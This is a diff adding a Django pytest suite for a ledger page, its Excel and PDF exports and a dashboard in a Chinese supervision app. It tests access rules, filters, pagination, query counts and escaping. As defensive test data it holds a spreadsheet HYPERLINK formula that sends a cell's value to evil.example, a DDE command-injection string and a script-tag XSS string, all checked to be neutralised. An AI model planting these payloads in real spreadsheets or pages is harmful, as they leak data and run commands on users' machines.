@@ -1,0 +1,354 @@
+"""The ledger page, its Excel and PDF exports and the dashboard: who sees what, filters, escaping, queries."""
+
+import io
+import re
+from urllib.parse import unquote
+
+import pytest
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from responsibility.views import ledger as ledger_views
+from tests.responsibility.inspections.ledger_helpers import ledger_scenario, move, record
+from tests.responsibility.pdf.reading import compact, pdf_text
+
+pytestmark = pytest.mark.django_db
+
+LEDGER = reverse("responsibility:ledger")
+XLSX = reverse("responsibility:ledger-export-xlsx")
+PDF = reverse("responsibility:ledger-export-pdf")
+DASHBOARD = reverse("responsibility:ledger-dashboard")
+HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+HOSTILE_SCRIPT = "<script>alert('x')</script>材料不全"
+
+
+@pytest.fixture
+def scenario(supervision, drawn):
+    return ledger_scenario(supervision, drawn)
+
+
+def _titles(response) -> list[str]:
+    return [row.finding.title for row in response.context["rows"]]
+
+
+def _queries(client, user, path) -> int:
+    client.force_login(user)
+    client.get(path)  # warm the per-process caches (content types) so that only the data varies
+    with CaptureQueriesContext(connection) as captured:
+        response = client.get(path)
+    assert response.status_code == 200
+    return len(captured)
+
+
+def _more_findings(supervision, scenario, count: int) -> None:
+    """`count` more findings in both units, in several states."""
+    states = ("open", "submitted", "verified", "closed")
+    for number in range(count):
+        inspection = scenario.committee if number % 2 else scenario.other
+        extra = {} if number % 2 else {"category": "rules"}
+        move(
+            record(inspection, title=f"补充问题{number}", **extra),
+            states[number % 4],
+            supervision=supervision,
+        )
+
+
+# --- the page -------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("who", ["inspector", "office_admin", "secretary"])
+def test_readers_of_the_whole_ledger_see_every_finding_and_the_dashboard_link(
+    client, supervision, scenario, who
+):
+    client.force_login(getattr(supervision.org, who))
+
+    response = client.get(LEDGER)
+
+    assert response.status_code == 200
+    assert len(response.context["rows"]) == 7
+    assert response.context["summary"].total == 7
+    assert DASHBOARD.encode() in response.content
+    assert f'href="{LEDGER}"'.encode() in response.content  # the menu entry
+
+
+def test_a_unit_head_sees_only_their_units_rows_and_no_menu_entry_or_dashboard(client, supervision, scenario):
+    # given the head of 教育科学文化卫生委员会
+    client.force_login(supervision.heads[scenario.other.unit_id])
+
+    # when
+    response = client.get(LEDGER)
+
+    # then
+    assert response.status_code == 200
+    assert sorted(_titles(response)) == sorted(["制度汇编未更新", "述责述廉报告未提交"])
+    assert [group.name for group in response.context["by_unit"]] == ["教育科学文化卫生委员会"]
+    assert "法制工作委员会" not in response.content.decode()
+    assert f'href="{LEDGER}"'.encode() not in response.content
+    assert DASHBOARD.encode() not in response.content
+
+
+def test_somebody_with_nothing_to_see_gets_an_empty_ledger_with_a_sentence(client, supervision, scenario):
+    client.force_login(supervision.org.outsider)
+
+    response = client.get(LEDGER)
+
+    assert response.status_code == 200
+    assert response.context["rows"] == []
+    assert "暂无与您有关的问题" in response.content.decode()
+
+
+def test_the_ledger_needs_a_login(client):
+    response = client.get(LEDGER)
+
+    assert response.status_code == 302
+    assert reverse("accounts:login") in response["Location"]
+
+
+def test_the_list_is_red_first_with_light_badges_and_links_to_the_findings(client, supervision, scenario):
+    client.force_login(supervision.org.inspector)
+
+    response = client.get(LEDGER)
+
+    content = response.content.decode()
+    assert _titles(response)[:2] == ["述责述廉报告未提交", "廉政风险点排查未更新"]
+    assert content.count('class="badge light-red"><span class="light-dot"') == 2
+    assert content.count('class="badge light-yellow"><span class="light-dot"') == 1
+    late = scenario.findings["late_submitted"]
+    assert reverse("responsibility:finding-detail", args=[late.pk]) in content
+
+
+def test_filters_narrow_the_list_and_the_export_links_keep_them(client, supervision, scenario):
+    client.force_login(supervision.org.inspector)
+
+    response = client.get(LEDGER, {"light": "red", "unit": scenario.other.unit_id})
+
+    assert _titles(response) == ["述责述廉报告未提交"]
+    assert response.context["summary"].total == 1
+    content = response.content.decode()
+    for export in (XLSX, PDF):
+        link = re.search(rf'href="({re.escape(export)}\?[^"]*)"', content).group(1)
+        assert "light=red" in link and f"unit={scenario.other.unit_id}" in link
+
+
+def test_a_bad_filter_value_is_reported_and_ignored(client, supervision, scenario):
+    client.force_login(supervision.org.inspector)
+
+    response = client.get(LEDGER, {"state": "bogus", "plan": "999999", "page": "x"})
+
+    assert response.status_code == 200
+    assert set(response.context["filter_form"].errors) == {"state", "plan"}
+    assert len(response.context["rows"]) == 7
+
+
+def test_the_list_is_paginated_by_50(client, supervision, scenario):
+    _more_findings(supervision, scenario, 44)  # 51 in all
+    client.force_login(supervision.org.inspector)
+
+    first = client.get(LEDGER)
+    second = client.get(LEDGER, {"page": 2})
+
+    assert len(first.context["rows"]) == 50
+    assert len(second.context["rows"]) == 1
+
+
+def test_user_text_is_escaped_on_the_page(client, supervision, scenario):
+    record(scenario.committee, title=HOSTILE_SCRIPT)
+    client.force_login(supervision.org.inspector)
+
+    content = client.get(LEDGER).content.decode()
+
+    assert "<script>alert" not in content
+    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;材料不全" in content
+
+
+def test_the_ledger_page_runs_the_same_queries_for_few_and_many_findings(client, supervision, scenario):
+    head = supervision.heads[scenario.committee.unit_id]
+    few = _queries(client, supervision.org.inspector, LEDGER)
+    few_head = _queries(client, head, LEDGER)
+    few_filtered = _queries(
+        client, supervision.org.inspector, f"{LEDGER}?light=red&plan={supervision.plan.pk}"
+    )
+
+    _more_findings(supervision, scenario, 12)
+
+    assert _queries(client, supervision.org.inspector, LEDGER) == few
+    assert _queries(client, head, LEDGER) == few_head
+    assert _queries(client, supervision.org.inspector, f"{LEDGER}?light=red&plan={supervision.plan.pk}") == (
+        few_filtered
+    )
+
+
+# --- Excel ----------------------------------------------------------------------------------------
+
+
+def _workbook(response):
+    assert response.status_code == 200
+    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+
+
+def test_the_excel_export_holds_every_visible_row_in_three_sheets(client, supervision, scenario):
+    client.force_login(supervision.org.inspector)
+
+    response = client.get(XLSX)
+
+    workbook = _workbook(response)
+    assert response["Content-Type"] == ledger_views.XLSX_CONTENT_TYPE
+    disposition = response["Content-Disposition"]
+    assert disposition.startswith('attachment; filename="rectification-ledger-')
+    assert unquote(disposition.split("filename*=UTF-8''")[1]).endswith(".xlsx")
+    ledger, by_unit, by_plan = workbook.worksheets
+    assert ledger.freeze_panes == "A2"
+    assert ledger.max_row == 1 + 7
+    references = [row[0] for row in ledger.iter_rows(min_row=2, values_only=True)]
+    assert sorted(references) == sorted(finding.reference for finding in scenario.findings.values())
+    first = next(ledger.iter_rows(min_row=2, max_row=2))
+    assert first[3].value == "述责述廉报告未提交"  # red first
+    assert first[9].is_date  # the deadline is a real date
+    assert [row[0] for row in by_unit.iter_rows(min_row=2, values_only=True)][:2] == [
+        "法制工作委员会",
+        "教育科学文化卫生委员会",
+    ]
+    assert [row[1] for row in by_unit.iter_rows(min_row=2, values_only=True)] == [5, 2, 7]  # and the total
+    assert by_plan.cell(row=2, column=1).value == supervision.plan.title
+
+
+def test_the_excel_export_keeps_the_filters_and_the_unit_heads_view(client, supervision, scenario):
+    client.force_login(supervision.heads[scenario.committee.unit_id])
+
+    ledger = _workbook(client.get(XLSX, {"light": "red"})).worksheets[0]
+
+    assert [row[3] for row in ledger.iter_rows(min_row=2, values_only=True)] == ["廉政风险点排查未更新"]
+
+
+def test_hostile_text_never_becomes_a_formula_in_the_excel_export(client, supervision, scenario):
+    record(scenario.committee, title=HOSTILE_FORMULA)
+    record(scenario.committee, title="+cmd|' /C calc'!A0")
+    client.force_login(supervision.org.inspector)
+
+    workbook = _workbook(client.get(XLSX))
+
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [cell for cell in cells if cell.data_type == "f"] == []
+    hostile = [cell for cell in cells if cell.value == HOSTILE_FORMULA]
+    assert len(hostile) == 1 and hostile[0].data_type == "s" and hostile[0].quotePrefix
+
+
+def test_an_excel_export_too_large_is_refused_with_a_request_to_narrow_the_filter(
+    client, supervision, scenario, monkeypatch
+):
+    monkeypatch.setattr(ledger_views, "XLSX_MAX_ROWS", 4)  # five moderate findings
+    client.force_login(supervision.org.inspector)
+
+    response = client.get(XLSX, {"severity": "moderate"}, follow=True)
+
+    assert response.redirect_chain[-1][0] == f"{LEDGER}?severity=moderate"
+    assert "请缩小筛选范围" in response.content.decode()
+
+
+# --- PDF ------------------------------------------------------------------------------------------
+
+
+def test_the_pdf_export_is_a_pdf_with_the_units_and_escaped_text(client, supervision, scenario):
+    record(scenario.committee, title=HOSTILE_SCRIPT)
+    client.force_login(supervision.org.inspector)
+
+    response = client.get(PDF, {"plan": supervision.plan.pk})
+
+    assert response.status_code == 200
+    assert response["Content-Type"] == "application/pdf"
+    assert response["Content-Disposition"].startswith('attachment; filename="rectification-ledger-')
+    assert response.content.startswith(b"%PDF")
+    text = compact(pdf_text(response.content))
+    assert "教育科学文化卫生委员会" in text
+    assert "述责述廉报告未提交" in text
+    assert supervision.plan.title in text  # the filter applied
+    assert compact(HOSTILE_SCRIPT) in text  # shown as text, not taken as markup
+
+
+def test_the_pdf_of_a_unit_head_holds_only_their_unit(client, supervision, scenario):
+    client.force_login(supervision.heads[scenario.other.unit_id])
+
+    text = compact(pdf_text(client.get(PDF).content))
+
+    assert "制度汇编未更新" in text
+    assert "法制工作委员会" not in text
+
+
+def test_a_pdf_export_too_large_is_refused_and_the_page_says_so_beforehand(
+    client, supervision, scenario, monkeypatch
+):
+    monkeypatch.setattr(ledger_views, "PDF_MAX_ROWS", 5)
+    client.force_login(supervision.org.inspector)
+
+    page = client.get(LEDGER).content.decode()
+    response = client.get(PDF, follow=True)
+
+    assert "超出 PDF 上限" in page
+    assert f'href="{PDF}"' not in page
+    assert response.redirect_chain[-1][0] == LEDGER
+    assert "请缩小筛选范围" in response.content.decode()
+
+
+# --- dashboard ------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("who", "status"),
+    [("inspector", 200), ("office_admin", 200), ("secretary", 200), ("unit head", 403), ("outsider", 403)],
+)
+def test_the_dashboard_is_for_readers_of_the_whole_ledger(client, supervision, scenario, who, status):
+    user = supervision.heads[scenario.other.unit_id] if who == "unit head" else getattr(supervision.org, who)
+    client.force_login(user)
+
+    assert client.get(DASHBOARD).status_code == status
+
+
+def test_the_dashboard_draws_three_charts_with_their_numbers(client, supervision, scenario):
+    client.force_login(supervision.org.inspector)
+
+    response = client.get(DASHBOARD)
+
+    content = response.content.decode()
+    assert content.count('<svg class="chart') == 3
+    assert content.count("<details>") == 3
+    assert "<script" not in content  # no chart library
+    # closure rate, lowest first: 法制工作委员会 0 %, then 教育科学文化卫生委员会 50 %
+    assert [group.name for group in response.context["units"]] == ["法制工作委员会", "教育科学文化卫生委员会"]
+    assert [bar.text for bar in response.context["closure_chart"].bars] == ["0.0%", "50.0%"]
+    assert sum(item.count for item in response.context["categories"]) == 7
+    assert len(response.context["trend"]) == 12
+    assert response.context["trend"][-1].overdue == 2
+
+
+def test_the_dashboard_is_narrowed_by_plan(client, supervision, scenario):
+    client.force_login(supervision.org.inspector)
+
+    response = client.get(DASHBOARD, {"plan": supervision.plan.pk})
+    empty = client.get(DASHBOARD, {"plan": "999999"})
+
+    assert response.context["summary"].total == 7
+    assert empty.status_code == 200
+    assert "plan" in empty.context["filter_form"].errors
+
+
+def test_the_dashboard_runs_the_same_queries_for_few_and_many_findings(client, supervision, scenario):
+    few = _queries(client, supervision.org.inspector, DASHBOARD)
+
+    _more_findings(supervision, scenario, 12)
+
+    assert _queries(client, supervision.org.inspector, DASHBOARD) == few
+
+
+def test_the_dashboard_and_ledger_of_an_empty_ledger_say_so(client, supervision):
+    # given no finding recorded yet
+    client.force_login(supervision.org.office_admin)
+
+    dashboard = client.get(DASHBOARD)
+    ledger = client.get(LEDGER)
+
+    assert dashboard.status_code == 200
+    assert dashboard.context["units"] == []
+    assert [point.overdue for point in dashboard.context["trend"]] == [0] * 12
+    assert "尚未记录任何问题" in ledger.content.decode()
